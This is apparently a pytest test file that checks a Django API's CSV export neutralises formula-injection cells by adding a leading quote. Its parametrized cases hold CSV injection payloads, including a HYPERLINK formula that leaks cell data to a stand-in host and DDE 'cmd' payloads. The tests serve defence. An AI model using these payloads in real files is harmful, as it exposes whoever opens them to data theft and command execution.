"""CSV exports are safe to open in a spreadsheet: a text cell that begins with a formula trigger (= + - @, tab,
carriage return) gets a leading single quote, as OWASP recommends for CSV injection; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from facts.api.renderers import csv_cell
from facts.models import Participant, ParticipantRole
from tests.conftest import make_actor, make_event, make_place

pytestmark = pytest.mark.django_db

PASSAGE = "The United States hosted negotiations between Armenia and Azerbaijan on Monday"


def export(api, url: str) -> list[dict]:
    response = api.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


@pytest.fixture
def api(client):
    return client


@pytest.mark.parametrize(
    ("title", "exported"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        # Text that looks like a negative number is text all the same: quoted (a spreadsheet shows -5, as text).
        ("-5", "'-5"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Not at the start, or a harmless first character: unchanged.
        ("Talks = progress", "Talks = progress"),
        (" =1+1", " =1+1"),
        ("'quoted already", "'quoted already"),
    ],
)
def test_event_titles_are_neutralised_in_the_csv_export(api, source, title, exported):
    event = make_event(source, PASSAGE, title=title)
    rows = export(api, "/api/v1/events/?format=csv&fields=id,title")
    assert rows == [{"id": str(event.pk), "title": exported}]


def test_the_json_keeps_the_title_as_written(api, source):
    event = make_event(source, PASSAGE, title='=HYPERLINK("x")')
    assert api.get(f"/api/v1/events/{event.pk}/").json()["title"] == '=HYPERLINK("x")'


def test_flattened_references_are_neutralised_too(api, source):
    # A slug may begin with "-": the participants cell then begins with it.
    event = make_event(source, PASSAGE, title="Talks")
    Participant.objects.create(event=event, actor=make_actor("Minus", slug="-minus"), role=ParticipantRole.HOST)
    rows = export(api, "/api/v1/events/?format=csv&fields=id,participants")
    assert rows[0]["participants"] == "'-minus:host"


def test_numbers_stay_numbers(api):
    make_place("Sydney", latitude=Decimal("-33.86880"), longitude=Decimal("151.20930"))
    rows = export(api, "/api/v1/places/?format=csv&fields=name,latitude,longitude")
    assert rows == [{"name": "Sydney", "latitude": "-33.8688", "longitude": "151.2093"}]


def test_csv_by_accept_header_is_neutralised_as_well(api, source):
    make_event(source, PASSAGE, title="=1+1")
    response = api.get("/api/v1/events/?fields=title", HTTP_ACCEPT="text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.splitlines() == ["title", "'=1+1"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-33.8688, "-33.8688"),
        (0, "0"),
        (True, "true"),
        (None, ""),
        ("-5", "'-5"),
        (["=a", "b"], "'=a | b"),
        ({"slug": "@x"}, "'@x"),
        ("", ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell
